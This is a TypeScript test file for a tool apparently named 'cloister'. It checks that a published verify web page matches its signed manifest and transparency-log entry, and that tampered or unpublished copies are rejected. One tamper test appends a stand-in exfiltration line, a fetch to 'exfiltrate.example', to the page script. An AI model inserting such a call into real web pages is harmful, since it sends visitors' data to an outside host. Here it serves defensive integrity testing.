// `cloister publish --web-manifest` and `cloister verify-web`: the verify page as `npm run web` builds it, published to
// a log directory, is recognized from its directory and from the URL it is served at; a copy with one file changed,
// or a page never published, is not. `cloister serve --verify-page` serves the same files at /verify/, and refuses a
// build whose files are not the ones its manifest lists.
import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { appendFileSync, cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Writable } from 'node:stream';
import { buildWeb } from '../../scripts/web/buildWeb.js';
import { createServer } from '../server/createServer.js';
import { cli } from '../testing/cliRun.js';
import { serveDirectory, type StaticServer } from '../testing/staticFiles.js';
import { temporaryDirectories } from '../testing/tempDirs.js';

const work = temporaryDirectories('cloister-verify-web-')();
process.env.CLOISTER_STATE_DIR = join(work, 'state');
const LOG = join(work, 'log');
const WEB = join(work, 'web');
const COMMIT = 'abcdef0123456789abcdef0123456789abcdef01';

describe('cloister publish --web-manifest, cloister verify-web', () => {
  let digest: string;
  let site: StaticServer;
  let log: StaticServer;

  before(async () => {
    const built = await buildWeb(WEB);
    digest = built.digest;
    // The page's size budget (docs/verify-page.md states the size): one HTML file, one stylesheet, one script.
    assert.deepEqual(built.manifest.files.map((f) => f.path), ['index.html', 'verify.css', 'verify.js']);
    assert.ok(built.bytes < 300_000 && built.gzipBytes < 100_000, `${built.bytes} bytes, ${built.gzipBytes} gzip`);
    const key = join(work, 'publisher.pem');
    writeFileSync(key, generateKeyPairSync('ed25519').privateKey.export({ format: 'pem', type: 'pkcs8' }), { mode: 0o600 });
    const r = await cli('publish', '--web-manifest', join(WEB, 'web-manifest.json'), '--key', key, '--log', LOG, '--commit', COMMIT);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^published: log index 0, tree size 1, bundle /);
    assert.ok(readFileSync(join(LOG, 'web', `${digest}.sigstore.json`)).length > 0);
    site = await serveDirectory(WEB);
    log = await serveDirectory(LOG);
  });

  after(async () => {
    await site.close();
    await log.close();
  });

  const verifyWeb = (where: string, logAt = LOG): ReturnType<typeof cli> => cli('verify-web', where, '--log', logAt, '--publisher-key', join(LOG, 'publisher.pub'));

  it('recognizes the published page in its directory, and at the URL a static host serves it from, with the log over HTTP', async () => {
    const local = await verifyWeb(WEB);
    assert.equal(local.code, 0, local.stdout + local.stderr);
    assert.equal(local.stdout, `PUBLISHED: the verify page in ${WEB} (web-manifest.json sha256 ${digest}, 3 files as listed) is at log index 0 of cloister.local/log (tree size 1), built from commit ${COMMIT}\n`);
    const served = await verifyWeb(site.url, log.url);
    assert.equal(served.code, 0, served.stdout + served.stderr);
    assert.match(served.stdout, /^PUBLISHED: the verify page in http:\/\/127\.0\.0\.1:\d+\//);
  });

  it('refuses a copy with a file changed (ARTIFACT_DIGEST_MISMATCH), and a page never published (WEB_PAGE_NOT_LOGGED)', async () => {
    const changed = join(work, 'changed');
    cpSync(WEB, changed, { recursive: true });
    appendFileSync(join(changed, 'verify.js'), '\nfetch("https://exfiltrate.example/")');
    const r = await verifyWeb(changed);
    assert.equal(r.code, 1, r.stdout + r.stderr);
    assert.match(r.stdout, /^REJECTED \[ARTIFACT_DIGEST_MISMATCH\] the verify page in .*: verify\.js is \d+ bytes with SHA-256 [0-9a-f]{64}, the manifest says/);

    const other = join(work, 'other');
    await buildWeb(other);
    const manifest = JSON.parse(readFileSync(join(other, 'web-manifest.json'), 'utf8')) as { files: unknown[] };
    writeFileSync(join(other, 'web-manifest.json'), JSON.stringify({ ...manifest, files: manifest.files.slice(0, 2) }));
    const unpublished = await verifyWeb(other);
    assert.equal(unpublished.code, 1, unpublished.stdout + unpublished.stderr);
    assert.match(unpublished.stdout, /^REJECTED \[WEB_PAGE_NOT_LOGGED\] .*no verify page with web-manifest\.json sha256:[0-9a-f]{64} is in the transparency log cloister\.local\/log\n$/);
  });

  it('refreshes the page\'s bundle with the others, and answers usage errors with exit 2', async () => {
    const refreshed = await cli('publish', '--refresh', '--log', LOG);
    assert.equal(refreshed.code, 0, refreshed.stderr);
    assert.match(refreshed.stdout, /^refreshed: 2 bundle\(s\)/, 'bundles/ and web/');
    assert.equal((await verifyWeb(WEB)).code, 0);
    assert.equal((await cli('verify-web', WEB)).code, 2);
    assert.equal((await cli('verify-web', '--log', LOG)).code, 2);
    assert.match((await cli('verify-web', '--help')).stdout, /^Usage: cloister verify-web DIR\|URL/);
    const missing = await verifyWeb(join(work, 'nowhere'));
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /web-manifest\.json/);
    const notJson = join(work, 'not-json');
    cpSync(WEB, notJson, { recursive: true });
    writeFileSync(join(notJson, 'web-manifest.json'), 'not json');
    assert.match((await verifyWeb(notJson)).stdout, /^REJECTED \[ARTIFACT_DIGEST_MISMATCH\] .*is not JSON/);
    const bad = await cli('publish', '--web-manifest', join(notJson, 'web-manifest.json'), '--key', join(work, 'publisher.pem'), '--log', LOG, '--commit', COMMIT);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /MALFORMED_STATEMENT.*not valid JSON/);
  });

  it('serve --verify-page: the build at /verify/ as it is, checked against its manifest when read', async () => {
    const quiet = new Writable({ write: (_chunk, _encoding, done) => { done(); } });
    const server = await createServer({ tee: { kind: 'simulated', platform: 'sev-snp' }, tls: false, models: null, logDestination: quiet, verifyPage: WEB });
    try {
      assert.equal((await server.app.inject({ url: '/verify' })).headers.location, '/verify/');
      const index = await server.app.inject({ url: '/verify/' });
      assert.deepEqual([index.statusCode, index.headers['content-type']], [200, 'text/html; charset=utf-8']);
      assert.ok(index.rawPayload.equals(readFileSync(join(WEB, 'index.html'))));
      const script = await server.app.inject({ url: '/verify/verify.js' });
      assert.deepEqual([script.statusCode, script.headers['content-type'], script.headers['x-content-type-options']], [200, 'text/javascript; charset=utf-8', 'nosniff']);
      assert.equal((await server.app.inject({ url: '/verify/web-manifest.json' })).statusCode, 200);
      assert.equal((await server.app.inject({ url: '/verify/other.js' })).statusCode, 404);
    } finally {
      await server.close();
    }
    const changed = join(work, 'served-changed');
    cpSync(WEB, changed, { recursive: true });
    appendFileSync(join(changed, 'verify.css'), 'body{}');
    const refused = await cli('serve', '--simulated', '--http', '--port', '0', '--models', 'none', '--verify-page', changed);
    assert.equal(refused.code, 2);
    assert.match(refused.stderr, /^error \[UNREADABLE_INPUT\]: cannot serve the verify page from ".*": verify\.css is not the file web-manifest\.json lists/);
    const absent = await cli('serve', '--simulated', '--http', '--port', '0', '--models', 'none', '--verify-page', join(work, 'nowhere'));
    assert.match(absent.stderr, /^error \[UNREADABLE_INPUT\]: cannot serve the verify page from ".*": ENOENT/);
  });
});
